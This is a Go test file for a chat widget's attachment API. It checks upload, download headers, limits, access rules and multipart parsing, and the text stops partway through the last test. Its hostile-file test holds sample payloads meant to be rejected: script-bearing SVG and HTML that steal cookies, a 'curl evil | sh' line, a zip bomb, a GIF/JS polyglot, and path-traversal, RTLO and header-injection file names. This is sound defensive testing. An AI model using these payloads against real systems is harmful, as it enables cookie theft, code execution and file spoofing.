package httpapi_test

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/png"
	"io"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"strings"
	"testing"
	"time"

	"github.com/parleyhq/parley/internal/chat"
	"github.com/parleyhq/parley/internal/httpapi"
	"github.com/parleyhq/parley/internal/store"
)

// Attachments end to end over HTTP (issue 13): upload, send, list, download with the headers that keep
// a file inert, hostile files, limits, who may fetch what, and malformed multipart bodies.

// Declared types of the Office kinds, as browsers send them.
const typeDOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

// pngBytes encodes a w × h PNG with image/png.
func pngBytes(t testing.TB, w, h int) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for x := range w {
		for y := range h {
			img.Set(x, y, color.RGBA{uint8(x * 7), uint8(y * 13), 200, 255})
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const pdfBytes = "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n" +
	"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"

// docxBytes builds a minimal Word document, with extra entries added after its parts.
func docxBytes(t testing.TB, extra map[string][]byte) []byte {
	return officeBytes(t, "docx", extra)
}

// officeBytes builds a minimal Office document of kind docx, xlsx or pptx as the Office applications
// write them (content types, package relationships, main part), with extra entries after its parts.
func officeBytes(t testing.TB, kind string, extra map[string][]byte) []byte {
	t.Helper()
	part, ct, body := "word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
		`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>`
	switch kind {
	case "xlsx":
		part, ct = "xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
		body = `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>`
	case "pptx":
		part, ct = "ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
		body = `<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`
	}
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	add := func(name string, data []byte) {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(data); err != nil {
			t.Fatal(err)
		}
	}
	add("[Content_Types].xml", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+
		`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`+
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>`+
		`<Default Extension="xml" ContentType="application/xml"/>`+
		`<Override PartName="/`+part+`" ContentType="`+ct+`"/></Types>`))
	add("_rels/.rels", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+
		`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+
		`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="`+part+`"/></Relationships>`))
	add(part, []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+body))
	for name, data := range extra {
		add(name, data)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// gifPolyglotBytes is a GIF that is also a script: "GIF89a/*…*/=alert(1);" runs as GIF89a=alert(1)
// with the binary header commented out. Its width is "/*" read as a little-endian number (10799).
func gifPolyglotBytes() []byte {
	return []byte("GIF89a/*\x0a\x00\x00\x00\x00" +
		",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00;" +
		"*/=alert(1);")
}

// multipartFile builds a multipart/form-data body of one part "file" and returns it with its
// Content-Type. An empty declared type sends the part without a Content-Type header.
func multipartFile(t testing.TB, name, declared string, data []byte) ([]byte, string) {
	t.Helper()
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", `form-data; name="file"; filename="`+strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(name)+`"`)
	if declared != "" {
		h.Set("Content-Type", declared)
	}
	w, err := mw.CreatePart(h)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := mw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes(), mw.FormDataContentType()
}

// postRaw sends body to path with the given Content-Type and the session's token.
func (e *env) postRaw(path, token, contentType string, body io.Reader) response {
	e.t.Helper()
	req, err := http.NewRequest("POST", e.srv.URL+path, body)
	if err != nil {
		e.t.Fatal(err)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	res, err := e.client.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer res.Body.Close()
	raw, _ := io.ReadAll(res.Body)
	r := response{status: res.StatusCode, header: res.Header, raw: raw}
	if len(raw) > 0 {
		if err := json.Unmarshal(raw, &r.body); err != nil {
			e.t.Fatalf("POST %s: body is not JSON: %q", path, raw)
		}
	}
	return r
}

// upload sends one file to POST /v1/widget/attachments.
func (e *env) upload(token, name, declared string, data []byte) response {
	e.t.Helper()
	body, ct := multipartFile(e.t, name, declared, data)
	return e.postRaw("/v1/widget/attachments", token, ct, bytes.NewReader(body))
}

// uploaded uploads a file that must be accepted and returns its attachment object.
func (e *env) uploaded(token, name, declared string, data []byte) map[string]any {
	e.t.Helper()
	r := e.upload(token, name, declared, data)
	expect(e.t, r, 201, "")
	att, ok := r.body["attachment"].(map[string]any)
	if !ok {
		e.t.Fatalf("no attachment in %s", r.raw)
	}
	return att
}

// download is a GET of an attachment: the status, the headers and the bytes.
type download struct {
	status int
	header http.Header
	body   []byte
}

func (e *env) download(token, id string) download {
	e.t.Helper()
	req, err := http.NewRequest("GET", e.srv.URL+"/v1/widget/attachments/"+id, nil)
	if err != nil {
		e.t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	res, err := e.client.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		e.t.Fatal(err)
	}
	return download{status: res.StatusCode, header: res.Header, body: body}
}

// expectDownloadError fails unless d is an error reply with status and code.
func expectDownloadError(t *testing.T, d download, status int, code string) {
	t.Helper()
	r := response{status: d.status, header: d.header, raw: d.body}
	if err := json.Unmarshal(d.body, &r.body); err != nil {
		t.Fatalf("got %d %q, want a JSON error %d %s", d.status, d.body, status, code)
	}
	expect(t, r, status, code)
}

// expectInert fails unless a download carries the headers that keep the file from running or
// rendering as anything but itself, with contentType and disposition ("inline" or "attachment").
func expectInert(t *testing.T, d download, contentType, disposition string) {
	t.Helper()
	if d.status != 200 {
		t.Fatalf("download: %d %s", d.status, d.body)
	}
	want := map[string]string{
		"Content-Type":            contentType,
		"X-Content-Type-Options":  "nosniff",
		"Content-Security-Policy": "default-src 'none'; sandbox",
		"Cache-Control":           "private",
		"Content-Length":          fmt.Sprint(len(d.body)),
	}
	for k, v := range want {
		if got := d.header.Get(k); got != v {
			t.Errorf("%s: %q, want %q", k, got, v)
		}
	}
	cd := d.header.Get("Content-Disposition")
	if cd != disposition && !strings.HasPrefix(cd, disposition+";") {
		t.Errorf("Content-Disposition %q, want %s", cd, disposition)
	}
	if disposition == "attachment" && !strings.Contains(cd, "filename*=UTF-8''") {
		t.Errorf("Content-Disposition %q has no filename*=UTF-8''", cd)
	}
	// Nothing of the name may reach the header's syntax: only RFC 8187 attr-chars and percent escapes.
	if _, v, ok := strings.Cut(cd, "filename*=UTF-8''"); ok {
		for _, c := range v {
			if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.ContainsRune("!#$&+-.^_`|~%", c)) {
				t.Errorf("Content-Disposition %q: %q in the encoded name", cd, c)
			}
		}
	}
}

// sendWith posts a message carrying attachment ids.
func (e *env) sendWith(token, body, clientID string, attachmentIDs ...string) response {
	e.t.Helper()
	return e.request("POST", "/v1/widget/messages", token, map[string]any{"body": body, "client_id": clientID, "attachments": attachmentIDs})
}

// attachmentIDs lists the ids of a message object's attachments.
func attachmentIDs(m map[string]any) []string {
	var out []string
	list, _ := m["attachments"].([]any)
	for _, a := range list {
		out = append(out, a.(map[string]any)["id"].(string))
	}
	return out
}

// stored counts the attachment records and stored chunks: a refused upload must leave neither.
func (e *env) stored() (records, chunks int) {
	e.t.Helper()
	return apiCount(e.t, e, "SELECT COUNT(*) FROM attachments"), apiCount(e.t, e, "SELECT COUNT(*) FROM blob_chunks")
}

func (e *env) expectNothingStored(t *testing.T, what string) {
	t.Helper()
	if records, chunks := e.stored(); records != 0 || chunks != 0 {
		t.Fatalf("%s left %d attachment records and %d chunks", what, records, chunks)
	}
}

func TestAttachmentSendListDownload(t *testing.T) {
	e := newEnv(t)
	token := e.session()
	shot := pngBytes(t, 40, 30)
	att := e.uploaded(token, "screen shot.png", "image/png", shot)
	id, _ := att["id"].(string)
	want := map[string]any{"name": "screen shot.png", "size": float64(len(shot)), "content_type": "image/png",
		"kind": "png", "image": true, "width": float64(40), "height": float64(30)}
	if !strings.HasPrefix(id, "att_") {
		t.Fatalf("attachment id %q", id)
	}
	for k, v := range want {
		if att[k] != v {
			t.Errorf("attachment.%s = %#v, want %#v (%v)", k, att[k], v, att)
		}
	}
	if len(att) != len(want)+1 {
		t.Errorf("attachment has other members: %v", att)
	}
	// The uploader may fetch its own pending upload (the widget previews it).
	expectInert(t, e.download(token, id), "image/png", "inline")

	// A message with the file and no text.
	r := e.sendWith(token, "", "c-1", id)
	expect(t, r, 201, "")
	m := apiMessage(t, r)
	if got := attachmentIDs(m); len(got) != 1 || got[0] != id || m["body"] != "" {
		t.Fatalf("message %v: want an empty body and the attachment", m)
	}
	conv := m["conversation_id"].(string)
	// A PDF with text in a second message, and an Office document.
	pdf := e.uploaded(token, "Invoice März; \"final\".pdf", "application/pdf", []byte(pdfBytes))
	doc := e.uploaded(token, "notes.docx", "", docxBytes(t, nil))
	csv := e.uploaded(token, "rows.csv", "text/csv", []byte("a,b\n1,2\n"))
	if doc["kind"] != "docx" || doc["content_type"] != typeDOCX || doc["image"] != false || doc["width"] != nil {
		t.Fatalf("docx attachment %v", doc)
	}
	expect(t, e.sendWith(token, "the invoice", "c-2", pdf["id"].(string), doc["id"].(string), csv["id"].(string)), 201, "")

	msgs := e.messages(token, conv, "")
	if len(msgs) != 2 {
		t.Fatalf("messages: %v", msgs)
	}
	listed := msgs[0]["attachments"].([]any)[0].(map[string]any)
	for k, v := range want {
		if listed[k] != v {
			t.Errorf("listed attachment.%s = %#v, want %#v", k, listed[k], v)
		}
	}
	if got := attachmentIDs(msgs[1]); strings.Join(got, ",") != strings.Join([]string{pdf["id"].(string), doc["id"].(string), csv["id"].(string)}, ",") {
		t.Fatalf("second message's attachments %v: want the three files in the order sent", got)
	}

	d := e.download(token, id)
	expectInert(t, d, "image/png", "inline")
	if !bytes.Equal(d.body, shot) {
		t.Fatal("downloaded bytes differ from the uploaded PNG")
	}
	d = e.download(token, pdf["id"].(string))
	expectInert(t, d, "application/pdf", "attachment")
	if !bytes.Equal(d.body, []byte(pdfBytes)) {
		t.Fatal("downloaded bytes differ from the uploaded PDF")
	}
	if cd := d.header.Get("Content-Disposition"); cd != "attachment; filename*=UTF-8''Invoice%20M%C3%A4rz%3B%20%22final%22.pdf" {
		t.Errorf("PDF Content-Disposition %q", cd)
	}
	expectInert(t, e.download(token, doc["id"].(string)), typeDOCX, "attachment")
	expectInert(t, e.download(token, csv["id"].(string)), "text/csv; charset=utf-8", "attachment")

	// A message whose attachment list is empty still needs text.
	apiExpectField(t, e.sendWith(token, "", "c-3"), "body")
}

// A large file crosses several storage chunks and comes back byte for byte.
func TestAttachmentLargeFileRoundTrip(t *testing.T) {
	e := newEnv(t)
	token := e.session()
	var b strings.Builder
	for i := 0; b.Len() < 3_000_000; i++ {
		fmt.Fprintf(&b, "%d,line %d of a long export\n", i, i)
	}
	data := []byte(b.String())
	att := e.uploaded(token, "export.csv", "text/csv", data)
	d := e.download(token, att["id"].(string))
	expectInert(t, d, "text/csv; charset=utf-8", "attachment")
	if !bytes.Equal(d.body, data) {
		t.Fatalf("downloaded %d bytes, differ from the %d uploaded", len(d.body), len(data))
	}
}

func TestAttachmentHostileFiles(t *testing.T) {
	e := newEnv(t)
	token := e.session()
	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>`)
	html := []byte("<!DOCTYPE html><html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>")
	exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"), make([]byte, 400)...)
	bomb := docxBytes(t, map[string][]byte{"word/media/zeros.bin": make([]byte, 8<<20)})
	if len(bomb) > 100_000 {
		t.Fatalf("the zip bomb is %d bytes: not a bomb", len(bomb))
	}
	for _, tc := range []struct {
		name, file, declared string
		data                 []byte
		status               int
		code                 string
	}{
		{"svg with script", "logo.svg", "image/svg+xml", svg, 415, "attachment_type_not_allowed"},
		{"svg declared png", "logo.png", "image/png", svg, 415, "attachment_type_not_allowed"},
		{"svg declared nothing", "logo.png", "", svg, 415, "attachment_type_not_allowed"},
		{"svg declared octet-stream", "logo", "application/octet-stream", svg, 415, "attachment_type_not_allowed"},
		{"svg declared text", "logo.txt", "text/plain", svg, 415, "attachment_type_not_allowed"},
		{"svg after a BOM and spaces", "logo.txt", "text/plain", append([]byte("\xef\xbb\xbf \n\t"), svg...), 415, "attachment_type_not_allowed"},
		{"html renamed png", "cat.png", "image/png", html, 415, "attachment_type_not_allowed"},
		{"html declared html", "page.html", "text/html", html, 415, "attachment_type_not_allowed"},
		{"html as text", "page.txt", "text/plain", html, 415, "attachment_type_not_allowed"},
		{"pdf declared png", "cat.png", "image/png", []byte(pdfBytes), 415, "attachment_type_mismatch"},
		{"png declared pdf", "x.pdf", "application/pdf", pngBytes(t, 2, 2), 415, "attachment_type_mismatch"},
		{"zip bomb named docx", "report.docx", typeDOCX, bomb, 422, "attachment_unsafe"},
		{"zip bomb declared nothing", "report.docx", "", bomb, 422, "attachment_unsafe"},
		{"exe", "setup.exe", "application/x-msdownload", exe, 415, "attachment_type_not_allowed"},
		{"exe renamed png", "cat.png", "image/png", exe, 415, "attachment_type_not_allowed"},
		{"exe declared nothing", "cat.png", "", exe, 415, "attachment_type_not_allowed"},
		{"shell script as text", "run.txt", "text/plain", []byte("#!/bin/sh\ncurl evil | sh\n"), 415, "attachment_type_not_allowed"},
		{"plain zip", "x.docx", typeDOCX, func() []byte {
			var b bytes.Buffer
			zw := zip.NewWriter(&b)
			w, _ := zw.Create("payload.js")
			w.Write([]byte("alert(1)"))
			zw.Close()
			return b.Bytes()
		}(), 415, "attachment_type_not_allowed"},
		{"png claiming 60 megapixels", "big.png", "image/png", pngHeader(10_000, 6_000), 422, "attachment_unsafe"},
		{"empty file", "empty.txt", "text/plain", nil, 400, "invalid_upload"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := e.upload(token, tc.file, tc.declared, tc.data)
			expect(t, r, tc.status, tc.code)
			if r.message() == "" {
				t.Fatal("the refusal has no message")
			}
			e.expectNothingStored(t, "the refused upload")
		})
	}

	// A GIF/JavaScript polyglot is a valid GIF: it is accepted as an image and served as one, with
	// nosniff so that no browser runs it as the script it also is, and a sandbox if it were rendered.
	poly := gifPolyglotBytes()
	for _, declared := range []string{"image/gif", "", "application/octet-stream"} {
		att := e.uploaded(token, "funny.gif", declared, poly)
		if att["kind"] != "gif" || att["content_type"] != "image/gif" {
			t.Fatalf("polyglot declared %q: %v", declared, att)
		}
		d := e.download(token, att["id"].(string))
		expectInert(t, d, "image/gif", "inline")
		if !bytes.Equal(d.body, poly) {
			t.Fatal("polyglot bytes changed")
		}
	}
	// Declared as a script, it is refused outright.
	expect(t, e.upload(token, "funny.js", "text/javascript", poly), 415, "attachment_type_mismatch")

	// A file name with a path and a right-to-left override: kept for display only, cleaned, given an
	// extension that fits the content (a text file named .exe or .bat must not be saved as one), and
	// encoded in Content-Disposition so that nothing of it reaches the header's syntax.
	for _, tc := range []struct{ sent, want string }{
		{"../../etc/invoice\u202efdp.exe", "invoicefdp.exe.txt"},
		{`..\..\Windows\evil` + "\u202e" + `txt.bat`, "eviltxt.bat.txt"},
		{"\u2066ok\u2069\t\u200ered; X-Injected: 1.txt", "okred; X-Injected: 1.txt"},
		{"..", "file.txt"},
	} {
		att := e.uploaded(token, tc.sent, "text/plain", []byte("hello"))
		if att["name"] != tc.want {
			t.Errorf("name %q stored as %q, want %q", tc.sent, att["name"], tc.want)
		}
		d := e.download(token, att["id"].(string))
		expectInert(t, d, "text/plain; charset=utf-8", "attachment")
		if d.header.Get("X-Injected") != "" {
			t.Fatal("a header was injected through the file name")
		}
		cd := d.header.Get("Content-Disposition")
		if strings.Contains(cd, "\u202e") || strings.Contains(cd, "..") || strings.Contains(cd, "/") || strings.Contains(cd, `\`) {
			t.Errorf("Content-Disposition %q", cd)
		}
	}
}

// pngHeader returns the start of a PNG whose header claims w × h pixels, with a correct checksum.
func pngHeader(w, h uint32) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 1, 1))); err != nil {
		panic(err)
	}
	// IHDR's width and height follow the signature (8), the chunk length (4) and type (4); its CRC
	// covers the type and data (17 bytes) and follows them.
	data := b.Bytes()[:33]
	put := func(at int, v uint32) {
		data[at], data[at+1], data[at+2], data[at+3] = byte(v>>24), byte(v>>16), byte(v>>8), byte(v)
	}
	put(16, w)
	put(20, h)
	put(29, crc32.ChecksumIEEE(data[12:29]))
	return data
}

func TestAttachmentLimits(t *testing.T) {
	e := newEnv(t)
	token := e.session()
	max := int64(1000)
	e.update(chat.SettingsPatch{AttachmentMaxBytes: &max})
	expect(t, e.upload(token, "a.txt", "text/plain", bytes.Repeat([]byte("a"), 1001)), 413, "attachment_too_large")
	e.expectNothingStored(t, "a file one byte too large")
	expect(t, e.upload(token, "a.txt", "text/plain", bytes.Repeat([]byte("a"), 50_000)), 413, "attachment_too_large")
	expect(t, e.upload(token, "a.txt", "text/plain", bytes.Repeat([]byte("a"), 500_000)), 413, "attachment_too_large")
	e.expectNothingStored(t, "too large files")
	e.uploaded(token, "a.txt", "text/plain", bytes.Repeat([]byte("a"), 1000))

	off := false
	e.update(chat.SettingsPatch{Attachments: &off})
	expect(t, e.upload(token, "a.txt", "text/plain", []byte("hi")), 403, "attachments_disabled")
	s := e.request("GET", "/v1/widget/session", token, nil)
	if s.body["config"].(map[string]any)["attachments"].(map[string]any)["enabled"] != false {
		t.Fatalf("config with attachments off: %s", s.raw)
	}
	on := true
	kinds := []string{"png", "jpeg"}
	e.update(chat.SettingsPatch{Attachments: &on, AttachmentKinds: &kinds})
	expect(t, e.upload(token, "x.pdf", "application/pdf", []byte(pdfBytes)), 415, "attachment_type_not_allowed")
	// An Office document is known as one only once the archive was read: refused then, and removed.
	expect(t, e.upload(token, "x.docx", "", docxBytes(t, nil)), 415, "attachment_type_not_allowed")
	e.uploaded(token, "x.png", "image/png", pngBytes(t, 3, 3))
	if n := apiCount(t, e, "SELECT COUNT(*) FROM attachments"); n != 2 {
		t.Fatalf("%d attachment records, want the 2 accepted", n)
	}
}

func TestAttachmentAccess(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	first := e.session()
	second := e.session()
	pending := e.uploaded(first, "a.png", "image/png", pngBytes(t, 2, 2))["id"].(string)
	sent := e.uploaded(first, "b.png", "image/png", pngBytes(t, 2, 2))["id"].(string)
	m := apiMessage(t, e.sendWith(first, "look", "c-1", sent))
	conv := m["conversation_id"].(string)

	// Another session: neither the pending upload nor the sent one, and it cannot send them.
	for _, id := range []string{pending, sent, "att_doesnotexist", "att_%2e%2e"} {
		expectDownloadError(t, e.download(second, id), 404, "attachment_not_found")
	}
	apiExpectField(t, e.sendWith(second, "mine now", "s-1", pending), "attachments")
	apiExpectField(t, e.sendWith(second, "mine now", "s-2", sent), "attachments")
	// An attachment goes with one message only, and once per message.
	apiExpectField(t, e.sendWith(first, "again", "c-2", sent), "attachments")
	other := e.uploaded(first, "c.png", "image/png", pngBytes(t, 2, 2))["id"].(string)
	apiExpectField(t, e.sendWith(first, "twice", "c-3", other, other), "attachments")
	six := make([]string, 6)
	for i := range six {
		six[i] = e.uploaded(first, "f.txt", "", []byte("x"))["id"].(string)
	}
	apiExpectField(t, e.sendWith(first, "six", "c-4", six...), "attachments")
	expect(t, e.sendWith(first, "five", "c-5", six[:5]...), 201, "")
	// Without a session: 401.
	expectDownloadError(t, e.download("", sent), 401, "session_invalid")

	// Another workspace's session: 404, even for the same attachment id.
	ws2, err := e.svc.CreateWorkspace(ctx, "Other Bank")
	if err != nil {
		t.Fatal(err)
	}
	r := e.request("POST", "/v1/widget/sessions", "", map[string]string{"workspace": ws2.ID})
	expect(t, r, 201, "")
	stranger := r.str("session_token")
	expectDownloadError(t, e.download(stranger, sent), 404, "attachment_not_found")
	expectDownloadError(t, e.download(stranger, pending), 404, "attachment_not_found")
	apiExpectField(t, e.sendWith(stranger, "hi", "x-1", pending), "attachments")

	// An agent's internal note with a file: the customer never sees it, by any path.
	ada := e.noteAgent()
	noteFile, err := e.svc.UploadForAgent(ctx, ada, "fraud-check.pdf", "application/pdf", strings.NewReader(pdfBytes))
	if err != nil {
		t.Fatal(err)
	}
	socket := wsConnect(t, e, first)
	if _, _, err := e.svc.PostNoteInput(ctx, ada, conv, chat.MessageInput{Body: noteSecret, Attachments: []string{noteFile.ID}}); err != nil {
		t.Fatal(err)
	}
	replyFile, err := e.svc.UploadForAgent(ctx, ada, "terms.pdf", "", strings.NewReader(pdfBytes))
	if err != nil {
		t.Fatal(err)
	}
	reply, err := e.svc.ReplyInput(ctx, ada, conv, chat.MessageInput{Body: "our terms", Attachments: []string{replyFile.ID}})
	if err != nil {
		t.Fatal(err)
	}
	f, skipped := wsNext(t, socket, "message")
	fm := f["message"].(map[string]any)
	if fm["id"] != chat.MessageID(reply) || strings.Join(attachmentIDs(fm), ",") != replyFile.ID {
		t.Fatalf("first message frame %v: want the reply with its file", f)
	}
	for _, s := range skipped {
		if fmt.Sprint(s) != "" && strings.Contains(fmt.Sprint(s), noteFile.ID) {
			t.Fatalf("a frame carries the note's file: %v", s)
		}
	}
	expectDownloadError(t, e.download(first, noteFile.ID), 404, "attachment_not_found")
	expectInert(t, e.download(first, replyFile.ID), "application/pdf", "attachment")
	listing := e.request("GET", "/v1/widget/conversations/"+conv+"/messages", first, nil)
	expect(t, listing, 200, "")
	if strings.Contains(string(listing.raw), noteFile.ID) || strings.Contains(string(listing.raw), "fraud-check") {
		t.Fatalf("the note's file is in the customer's message list: %s", listing.raw)
	}
	if !strings.Contains(string(listing.raw), replyFile.ID) {
		t.Fatalf("the reply's file is not in the customer's message list: %s", listing.raw)
	}
	// The customer cannot send the agent's files either.
	apiExpectField(t, e.sendWith(first, "yours", "c-6", noteFile.ID), "attachments")

	// Logging out: the old token is 401, and the new anonymous session does not inherit the files.
	lo := e.request("POST", "/v1/widget/logout", first, nil)
	expect(t, lo, 200, "")
	expectDownloadError(t, e.download(first, sent), 401, "session_invalid")
	expectDownloadError(t, e.download(first, pending), 401, "session_invalid")
	expect(t, e.upload(first, "x.txt", "", []byte("x")), 401, "session_invalid")
	fresh := lo.str("session_token")
	expectDownloadError(t, e.download(fresh, sent), 404, "attachment_not_found")
	expectDownloadError(t, e.download(fresh, pending), 404, "attachment_not_found")
}

// A verified customer's files: both devices see them; after logout the device's old token is 401; the
// customers API's listing carries the metadata of customer-visible files only.
func TestAttachmentCustomerDevicesAndListing(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	ada := e.noteAgent()
	key := e.apiKey()
	expect(t, e.customers("PUT", "user-9", "", key, map[string]string{"email": "ada@example.com"}), 201, "")
	device := func() string {
		tok := e.customers("POST", "user-9", "/login-tokens", key, nil)
		expect(t, tok, 201, "")
		lr := e.login(e.session(), tok.str("token"))
		expect(t, lr, 200, "")
		return lr.str("session_token")
	}
	phone, laptop := device(), device()
	shot := e.uploaded(phone, "shot.png", "image/png", pngBytes(t, 8, 6))
	id := shot["id"].(string)
	// Not yet sent: the other device's session did not upload it.
	expectDownloadError(t, e.download(laptop, id), 404, "attachment_not_found")
	m := apiMessage(t, e.sendWith(phone, "", "p-1", id))
	conv := m["conversation_id"].(string)
	expectInert(t, e.download(laptop, id), "image/png", "inline")

	noteFile, err := e.svc.UploadForAgent(ctx, ada, "internal.pdf", "application/pdf", strings.NewReader(pdfBytes))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := e.svc.PostNoteInput(ctx, ada, conv, chat.MessageInput{Body: noteSecret, Attachments: []string{noteFile.ID}}); err != nil {
		t.Fatal(err)
	}
	r := e.customers("GET", "user-9", "/conversations", key, nil)
	expect(t, r, 200, "")
	convs, _ := r.body["conversations"].([]any)
	if len(convs) != 1 {
		t.Fatalf("conversations: %s", r.raw)
	}
	atts, _ := convs[0].(map[string]any)["attachments"].([]any)
	if len(atts) != 1 {
		t.Fatalf("listing's attachments %v: want the customer's one file", atts)
	}
	a := atts[0].(map[string]any)
	if a["id"] != id || a["name"] != "shot.png" || a["kind"] != "png" || a["width"] != float64(8) || a["size"] != shot["size"] {
		t.Fatalf("listed attachment %v, want %v", a, shot)
	}
	if strings.Contains(string(r.raw), noteFile.ID) || strings.Contains(string(r.raw), "internal.pdf") {
		t.Fatalf("the note's file is in the customers API's listing: %s", r.raw)
	}

	expect(t, e.request("POST", "/v1/widget/logout", phone, nil), 200, "")
	expectDownloadError(t, e.download(phone, id), 401, "session_invalid")
	// Revoking every session through the customers API: the laptop's token is 401 too.
	expect(t, e.customers("POST", "user-9", "/logout", key, nil), 200, "")
	expectDownloadError(t, e.download(laptop, id), 401, "session_invalid")
}

// hiddenLength hides a reader's length from net/http, so that the body goes out chunked, without a
// Content-Length the server could refuse up front.
type hiddenLength struct{ r io.Reader }

func (h hiddenLength) Read(p []byte) (int, error) { return h.r.Read(p) }

func TestAttachmentMultipartEdgeCases(t *testing.T) {
	e := newEnv(t)
	token := e.session()
	const path = "/v1/widget/attachments"
	valid, validType := multipartFile(t, "a.txt", "text/plain", bytes.Repeat([]byte("hello "), 100_000))
	boundary := strings.TrimPrefix(validType, "multipart/form-data; boundary=")

	// Not multipart at all.
	expect(t, e.postRaw(path, token, "application/json", strings.NewReader(`{"file":"aGVsbG8="}`)), 415, "unsupported_media_type")
	expect(t, e.postRaw(path, token, "", bytes.NewReader(valid)), 415, "unsupported_media_type")
	expect(t, e.postRaw(path, token, "image/png", bytes.NewReader(pngBytes(t, 2, 2))), 415, "unsupported_media_type")
	expect(t, e.postRaw(path, token, "multipart/form-data", bytes.NewReader(valid)), 415, "unsupported_media_type")
	expect(t, e.postRaw(path, token, "multipart/mixed; boundary="+boundary, bytes.NewReader(valid)), 415, "unsupported_media_type")

	form := func(parts ...[3]string) []byte { // each part: name, filename ("" for a field), content
		var b bytes.Buffer
		mw := multipart.NewWriter(&b)
		if err := mw.SetBoundary(boundary); err != nil {
			t.Fatal(err)
		}
		for _, p := range parts {
			var w io.Writer
			var err error
			if p[1] == "" {
				w, err = mw.CreateFormField(p[0])
			} else {
				w, err = mw.CreateFormFile(p[0], p[1])
			}
			if err != nil {
				t.Fatal(err)
			}
			io.WriteString(w, p[2])
		}
		mw.Close()
		return b.Bytes()
	}
	for _, tc := range []struct {
		name string
		body []byte
	}{
		{"no part at all", form()},
		{"empty body", nil},
		{"a field, no file", form([3]string{"note", "", "hello"})},
		{"a file part without a file name", form([3]string{"file", "", "hello"})},
		{"the file under another name", form([3]string{"upload", "a.txt", "hello"})},
		{"a field before the file", form([3]string{"note", "", "x"}, [3]string{"file", "a.txt", "hello"})},
		{"a second file after the file", form([3]string{"file", "a.txt", "hello"}, [3]string{"file", "b.txt", "world"})},
		{"a field after the file", form([3]string{"file", "a.txt", "hello"}, [3]string{"note", "", "x"})},
		{"a field after a large file", append(bytes.TrimSuffix(valid, []byte("--"+boundary+"--\r\n")),
			[]byte("--"+boundary+"\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\ny\r\n--"+boundary+"--\r\n")...)},
		{"truncated in the file", valid[:len(valid)/2]},
		{"truncated before the closing boundary", valid[:len(valid)-len(boundary)-6]},
		{"truncated in the part headers", valid[:len(boundary)+20]},
		{"no closing boundary", bytes.TrimSuffix(valid, []byte("--"+boundary+"--\r\n"))},
		{"garbage", []byte("this is not a multipart body at all")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := e.postRaw(path, token, validType, bytes.NewReader(tc.body))
			expect(t, r, 400, "invalid_upload")
			e.expectNothingStored(t, tc.name)
			// Chunked, without a Content-Length, the same.
			r = e.postRaw(path, token, validType, hiddenLength{bytes.NewReader(tc.body)})
			expect(t, r, 400, "invalid_upload")
			e.expectNothingStored(t, tc.name+", chunked")
		})
	}

	// A body over the limit: refused at once by its Content-Length, or once the limit is crossed when it
	// comes chunked — also when the excess is before the file (a long preamble).
	max := int64(100_000)
	e.update(chat.SettingsPatch{AttachmentMaxBytes: &max})
	big, bigType := multipartFile(t, "big.txt", "text/plain", bytes.Repeat([]byte("x"), 1_000_000))
